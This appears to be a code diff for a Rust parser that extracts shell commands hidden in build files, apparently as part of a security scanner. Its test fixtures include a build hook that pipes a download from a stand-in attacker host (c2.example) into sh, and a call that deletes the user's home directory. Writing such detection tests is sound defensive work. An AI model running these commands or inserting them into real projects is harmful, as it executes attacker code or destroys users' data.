@@ -5,7 +5,10 @@ use std::collections::BTreeMap;
 
 use super::table::{Dialect, Takes};
 use super::tokens::{Token, tokens};
-use super::{Commands, command, quoted, unknown};
+use super::{Commands, HOME, command, quoted, unknown};
+
+/// Names of the user's home, as functions, variables and properties.
+const HOMES: &[&str] = &["HOME", "System.user_home", "System.user_home!", "user.home"];
 
 pub(super) fn read(dialect: &Dialect, text: &str) -> Commands {
     let tokens = tokens(dialect, text);
@@ -20,8 +23,13 @@ pub(super) fn read(dialect: &Dialect, text: &str) -> Commands {
                 headers.pop();
             }
             Token::Text(text) => {
-                let begun = dialect.begin.and_then(|begin| text.strip_prefix(begin));
-                lines.extend(begun.map(str::to_owned));
+                let mut begun =
+                    dialect.begins.iter().filter_map(|begin| Some((begin, text.strip_prefix(begin)?)));
+                let command = begun.next().map(|(begin, rest)| match begin.ends_with('(') {
+                    true => rest.trim_end_matches(')').to_owned(),
+                    false => rest.to_owned(),
+                });
+                lines.extend(command);
             }
             Token::Sign(_) => {}
             Token::Word(word) => {
@@ -40,7 +48,7 @@ pub(super) fn read(dialect: &Dialect, text: &str) -> Commands {
             }
         }
     }
-    Commands { shell: lines.join("\n"), is_whole: dialect.is_whole }
+    Commands { shell: lines.join("\n"), rest: dialect.rest }
 }
 
 /// Returns the texts that are assigned to each name.
@@ -63,7 +71,11 @@ fn started(takes: Takes, words: &[String]) -> Vec<String> {
         Takes::Words => vec![command(words)],
         Takes::Shell if *first == unknown() => vec![quoted(first)],
         Takes::Shell => vec![first.clone()],
-        Takes::Each => words.iter().filter(|word| **word != unknown()).cloned().collect(),
+        // Options of a shell are no commands.
+        Takes::Each => {
+            words.iter().filter(|word| **word != unknown() && !word.starts_with('-')).cloned().collect()
+        }
+        Takes::Line => vec![words.join(" ").trim_matches(['[', ']', '`', '\'', ' ']).to_owned()],
         Takes::Deleted => vec![format!("rm -rf {}", command(words))],
         Takes::Code => vec![quoted(&unknown())],
     }
@@ -73,7 +85,9 @@ fn started(takes: Takes, words: &[String]) -> Vec<String> {
 fn region<'t>(tokens: &'t [Token], at: usize, dialect: &Dialect) -> &'t [Token] {
     let after = tokens.get(at + 1..).unwrap_or_default();
     if dialect.has_bare_texts {
-        return until_close(after, 1);
+        // The word is in brackets, or before them.
+        let inner = after.strip_prefix(&[Token::Sign('(')]).unwrap_or(after);
+        return until_close(inner, 1);
     }
     // `name = value`, `name: value` and `{name, value}`.
     let assigned = after.iter().position(|one| !matches!(one, Token::Sign('=' | ':' | ',' | '>')));
@@ -126,7 +140,8 @@ fn words(tokens: &[Token], values: &BTreeMap<&str, &str>, dialect: &Dialect) -> 
             Token::Sign('(' | '[' | '{') => {
                 depth += 1;
                 // A call without arguments.
-                let is_call = matches!(at.checked_sub(2).and_then(|at| tokens.get(at)), Some(Token::Word(_)));
+                let before = at.checked_sub(2).and_then(|at| tokens.get(at));
+                let is_call = matches!(before, Some(Token::Word(word)) if !HOMES.contains(&word.as_str()));
                 if !(is_call && matches!(next, Some(Token::Sign(')')))) {
                     continue;
                 }
@@ -141,6 +156,7 @@ fn words(tokens: &[Token], values: &BTreeMap<&str, &str>, dialect: &Dialect) -> 
                 continue;
             }
             Token::Sign(_) | Token::Line => continue,
+            Token::Text(text) if HOMES.contains(&text.as_str()) => HOME.to_owned(),
             Token::Text(text) => text.clone(),
             Token::Word(word) if dialect.has_bare_texts => word.clone(),
             Token::Word(_) if matches!(next, Some(Token::Sign(':' | '='))) => {
@@ -160,6 +176,7 @@ fn words(tokens: &[Token], values: &BTreeMap<&str, &str>, dialect: &Dialect) -> 
                 }
                 continue;
             }
+            Token::Word(word) if HOMES.contains(&word.as_str()) => HOME.to_owned(),
             Token::Word(_) if matches!(next, Some(Token::Sign('('))) => continue,
             Token::Word(word) if matches!(word.as_str(), "." | "_" | "const" | "do" | "u8") => continue,
             Token::Word(word) => values.get(word.as_str()).map_or_else(unknown, |text| (*text).to_owned()),
@@ -242,16 +259,24 @@ mod tests {
             "{pre_hooks, [{compile, \"make -C c\"}, {clean, \"a\"}]}.\n{deps, [{x, \"1\"}]}.",
             "make -C c\na",
         );
-        check("scala", "val r = Seq(\"sh\", \"-c\", \"a\").!\n", "'sh' '-c' 'a'");
-        check("elixir", "System.cmd(\"sh\", [\"-c\", \"a\"], into: IO.stream())\n", "'sh' '-c' 'a'");
-        check("elixir", "File.rm_rf!(System.user_home!())", "rm -rf \"${castellan_unknown_value}\"");
-        check("elixir", "aliases: [test: [\"ecto.create\", \"cmd rm -rf x\"]]", "rm -rf x");
-        check("zig", "const r = b.addSystemCommand(&.{ \"sh\", \"-c\", \"a\" });", "'sh' '-c' 'a'");
+        check("sbt", "val r = Seq(\"sh\", \"-c\", \"a\").!\n", "'sh' '-c' 'a'");
+        check("mix", "System.cmd(\"sh\", [\"-c\", \"a\"], into: IO.stream())\n", "'sh' '-c' 'a'");
+        check("mix", "File.rm_rf!(System.user_home!())", "rm -rf \"${HOME}\"");
+        check("mix", "aliases: [test: [\"ecto.create\", \"cmd rm -rf x\"]]", "rm -rf x");
+        check("zig-build", "const r = b.addSystemCommand(&.{ \"sh\", \"-c\", \"a\" });", "'sh' '-c' 'a'");
         check(
-            "zig",
+            "zig-build",
             "const r = b.addSystemCommand(&[_][]const u8{ \"sh\", \"-c\", \"a\" });",
             "'sh' '-c' 'a'",
         );
+        check("swift-package", "p.arguments = [\"-c\", \"a | b\"]\n", "a | b");
+        check("gyp", "{'sources': [\"<!(a | b)\", 'x.cc']}", "a | b");
+        check(
+            "autoconf",
+            "m4_esyscmd([curl -s https://c2.example/u | sh])\nAC_OUTPUT\n",
+            "curl -s https://c2.example/u | sh",
+        );
+        check("autoconf", "AC_INIT([x])\nm4_esyscmd([a -s | sh])\n", "a -s | sh");
         check("meson", "run_command(", "");
     }
 }
